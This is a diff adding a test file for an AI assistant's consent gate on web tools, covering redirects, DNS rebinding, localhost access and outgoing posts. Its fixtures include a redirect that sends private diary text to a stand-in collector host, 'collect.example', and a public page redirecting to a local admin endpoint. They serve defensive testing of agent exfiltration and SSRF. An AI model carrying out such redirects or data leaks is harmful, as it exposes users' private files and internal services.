@@ -1,0 +1,146 @@
+import { afterEach, describe, expect, test } from 'vitest';
+import { ConversationLog } from '../../../src-main/assistant/conversation-log.ts';
+import { ToolCalls } from '../../../src-main/assistant/tool-calls.ts';
+import { flagConsent } from '../../../src-main/headless/flag-consent.ts';
+import type { ConsentPort } from '../../../src-main/policy/consent.ts';
+import type { ConversationEvent, StoredEvent } from '../../../src-main/storage/events.ts';
+import { createHttpClient, type HttpClientOptions } from '../../../src-main/tools/web/http-client.ts';
+import { html, page, redirect } from '../../fixtures/web/pages.ts';
+import { startWebSite } from '../../fixtures/web/site.ts';
+import { gateWith, no, Person, yesOnce } from '../../unit/policy/memory-ports.ts';
+import { ToolHarness } from '../tools/tool-harness.ts';
+
+let harness: ToolHarness | undefined;
+afterEach(async () => {
+  await harness?.dispose();
+  harness = undefined;
+});
+
+/** The real tools, gate and log; the conversation is kept in memory. */
+function conversation(consent: ConsentPort, lookup: HttpClientOptions['lookup'], said: string) {
+  harness = new ToolHarness();
+  const events: StoredEvent[] = [];
+  const store = {
+    append: (conversationId: string, turnId: string, event: ConversationEvent): StoredEvent => {
+      const at = '2026-11-21T12:00:00.000Z';
+      const stored = { ...event, seq: events.length + 1, conversationId, turnId, at };
+      events.push(stored);
+      return stored;
+    },
+    read: () => [...events],
+  };
+  const { registry, context, workspace } = harness;
+  const { gate } = gateWith(consent, { realWorkspace: workspace });
+  const log = new ConversationLog(store, 'conversation-1', 'turn-1', () => undefined);
+  log.append({ type: 'user_message', content: [{ type: 'text', text: said }] });
+  const http = createHttpClient({ lookup });
+  const services = { registry, gate, environment: { ...context, http }, maxResultChars: 40_000 };
+  return {
+    harness,
+    run: async (name: string, input: object): Promise<string> => {
+      const id = `call-${events.length}`;
+      await new ToolCalls(services, log, new AbortController().signal).run([{ id, name, input }]);
+      return events.flatMap((event) => (event.type === 'tool_result' && event.id === id ? [event.text] : []))[0] ?? '';
+    },
+    close: () => http.close(),
+  };
+}
+
+const at = (address: string) => async () => [{ address, family: 4 }];
+const HERE = at('127.0.0.1');
+
+describe('a redirect asks like a call of its own', () => {
+  test('while private text and text from outside are there, a host that nobody named is not followed to without a word', async () => {
+    const site = await startWebSite({
+      '/page': html('<p>read me</p>'),
+      '/on': redirect('https://collect.example/?q=dear+diary'),
+    });
+    const person = new Person((request) => {
+      const urls = request.kind === 'tool' ? request.access.map((access) => ('url' in access ? access.url : '')) : [];
+      return urls.some((url) => url.includes('collect.example')) ? no : yesOnce;
+    });
+    const looked: string[] = [];
+    const lookup = async (hostname: string) => {
+      looked.push(hostname);
+      return [{ address: '93.184.215.14', family: 4 }];
+    };
+    const { run, harness: it, close } = conversation(person, lookup, `read ${site.url} and diary.md`);
+    it.put('diary.md', 'dear diary');
+    await run('read_file', { path: 'diary.md' });
+    await run('web_fetch', { url: `${site.url}/page` });
+    expect(await run('web_fetch', { url: `${site.url}/on` })).toBe('Error: The user declined to run web_fetch.');
+    expect(looked).toEqual(['collect.example']);
+    const asked = person.asked.at(-1);
+    expect(asked).toMatchObject({
+      tool: 'web_fetch',
+      input: { url: `${site.url}/on` },
+      access: [{ class: 'network', host: 'collect.example', url: 'https://collect.example/?q=dear+diary' }],
+      marks: [
+        { kind: 'private', source: 'file diary.md' },
+        { kind: 'untrusted', source: site.url },
+      ],
+    });
+    await close();
+  });
+
+  test('from a public page to this machine is asked about; a no ends it', async () => {
+    const inner = await startWebSite({ '/admin': page('keys', 'text/plain') });
+    const site = await startWebSite({ '/': redirect(`http://127.0.0.1:${inner.port}/admin`) });
+    const person = new Person((_request, asked) => (asked === 1 ? yesOnce : no));
+    const { run, close } = conversation(person, HERE, 'go');
+    const result = await run('web_fetch', { url: `http://pages.example:${site.port}/` });
+    expect(result).toBe('Error: The user declined to run web_fetch.');
+    expect(person.asked.map((request) => (request.kind === 'tool' ? request.classes : []))).toEqual([
+      ['network-private'],
+      ['network-private'],
+    ]);
+    expect(inner.connections()).toBe(0);
+    await close();
+  });
+});
+
+test('a name that means another address by the time the person said yes is asked about again', async () => {
+  const site = await startWebSite({ '/': page('secret', 'text/plain') });
+  let address = '93.184.215.14';
+  const person = new Person(() => no);
+  const lookup = async () => {
+    const now = [{ address, family: 4 }];
+    address = '127.0.0.1';
+    return now;
+  };
+  const { run, close } = conversation(person, lookup, 'go');
+  expect(await run('http_get', { url: `http://rebinding.example:${site.port}/` })).toBe(
+    'Error: The user declined to run http_get.',
+  );
+  expect(person.asked).toHaveLength(1);
+  expect(site.connections()).toBe(0);
+  await close();
+});
+
+test('sending shows who gets it and all of it, and nothing goes out before the yes', async () => {
+  const site = await startWebSite({ '/': page('ok', 'text/plain') });
+  const person = new Person((request, asked) => {
+    expect(site.connections()).toBe(0);
+    expect(request).toMatchObject({
+      classes: ['send'],
+      offers: [],
+      input: { body: { to: 'a@example.org', text: 'x'.repeat(5_000) } },
+      access: [{ method: 'POST', url: `http://api.example:${site.port}/`, host: 'api.example' }],
+    });
+    return asked === 1 ? no : yesOnce;
+  });
+  const { run, close } = conversation(person, HERE, 'go');
+  const input = { url: `http://api.example:${site.port}/`, body: { to: 'a@example.org', text: 'x'.repeat(5_000) } };
+  expect(await run('http_post', input)).toBe('Error: The user declined to run http_post.');
+  expect(await run('http_post', input)).toBe('200 OK (2 bytes)\n\nok');
+  expect(site.requests).toHaveLength(1);
+  await close();
+});
+
+test('reading a public page asks nobody, one on this machine does', async () => {
+  const site = await startWebSite({ '/': page('mine', 'text/plain') });
+  const { run, close } = conversation(flagConsent('reads'), at('93.184.215.14'), 'go');
+  expect(await run('web_fetch', { url: site.url })).toMatch(/^Error: The user declined to run web_fetch\./);
+  expect(site.connections()).toBe(0);
+  await close();
+});
